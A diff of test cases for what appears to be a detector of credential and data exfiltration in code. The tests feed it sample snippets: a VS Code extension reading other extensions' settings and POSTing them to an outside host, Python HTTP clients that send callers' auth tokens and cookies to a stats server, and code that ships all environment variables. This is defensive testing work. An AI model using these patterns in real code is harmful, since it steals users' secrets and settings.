@@ -434,3 +434,28 @@ test('a connection to this computer is opened with whatever is asked for; what i
   assert.equal(worst('const s = require("net").connect("/run/a"); s.write(JSON.stringify(process.env))'), 'critical');
   assert.equal(worst('require("http").get({ path: "/" + JSON.stringify(process.env) })'), 'critical');
 });
+
+test('what an editor keeps for itself and for other extensions', () => {
+  const read = (folder: string, send = 'fetch("https://sync.widgets.org/v1", { method: "POST", body: JSON.stringify(all) })') => `const fs = require("fs"), path = require("path"); exports.activate = async (context) => { const folder = ${folder}; const all = { settings: "" }; all.settings = fs.readFileSync(path.join(folder, "settings.json"), "utf8"); ${send} }`;
+  for (const folder of ['path.resolve(context.globalStorageUri.fsPath, "..", "..")', 'path.join(context.globalStoragePath, "../..")', 'path.dirname(context.globalStorageUri.fsPath)', 'vscode.Uri.joinPath(context.globalStorageUri, "..").fsPath', 'path.dirname(path.dirname(context.storageUri.fsPath))']) assert.equal(worst(read(folder)), 'high', folder);
+  for (const code of [
+    read('path.join(context.globalStorageUri.fsPath, "cache")'),
+    read('path.join(context.extensionPath, "..")'),
+    read('path.dirname(context.globalStorageUri.fsPath)', 'fetch(server, { method: "POST", body: JSON.stringify(all) })'),
+    read('path.dirname(context.globalStorageUri.fsPath)', 'show(all); fetch("https://sync.widgets.org/v1")'),
+  ]) assert.equal(worst(code), 'nothing', code);
+});
+
+test('in Python: a client that tells somebody else the logins of its callers', () => {
+  const client = (send: string, start = 'self._tell(url, kwargs)') => worst(`import requests\nimport threading\nclass RetrySession(requests.Session):\n    def request(self, method, url, **kwargs):\n        ${start}\n        return super().request(method, url, **kwargs)\n    def _tell(self, url, kwargs):\n        record = {"url": url, "auth": kwargs.get("auth") or self.auth, "cookies": self.cookies.get_dict()}\n        ${send}\n\ndef ship(record):\n    requests.post("https://stats.widgets.org/v2", json=record)\n`, 'a.py');
+  for (const send of ['ship(record)', 'threading.Thread(target=ship, args=(record,), daemon=True).start()', 'pool.submit(ship, record)', 'requests.post("https://stats.widgets.org/v2", json=record)']) assert.equal(client(send), 'high', send);
+  assert.equal(worst('import requests\nask = requests.Session.request\ndef wrapped(self, method, url, **kw):\n    requests.post("https://stats.widgets.org/v2", json={"u": url, "a": kw.get("auth")})\n    return ask(self, method, url, **kw)\nrequests.Session.request = wrapped\n', 'a.py'), 'high');
+  for (const send of ['ship({"url": record["url"], "ms": 5})', 'ship(len(record))', 'log(record)', 'requests.post(self.server, json=record)', 'requests.post("https://api.widgets.org/token", data={"refresh": self.refresh}, auth=self.auth)']) assert.notEqual(client(send, 'pass'), 'high', send);
+  assert.equal(worst('import requests\nclass Api(requests.Session):\n    def refresh(self):\n        r = requests.post("https://api.widgets.org/token", headers={"Authorization": self.headers["Authorization"]})\n        self.headers["Authorization"] = r.json()["token"]\n', 'a.py'), 'nothing');
+});
+
+test('in Python: all variables, handed to a function that sends them', () => {
+  const send = 'import os, requests, threading\ndef ship(what, level=1):\n    requests.post("https://stats.widgets.org/v2", json=what)\n';
+  for (const call of ['ship(dict(os.environ))', 'ship(level=2, what=dict(os.environ))', 'threading.Thread(target=ship, args=(dict(os.environ),)).start()']) assert.equal(worst(`${send}${call}\n`, 'a.py'), 'critical', call);
+  for (const call of ['ship({"version": 1})', 'run(dict(os.environ))', 'ship(level=os.environ)']) assert.equal(worst(`${send}${call}\n`, 'a.py'), 'nothing', call);
+});
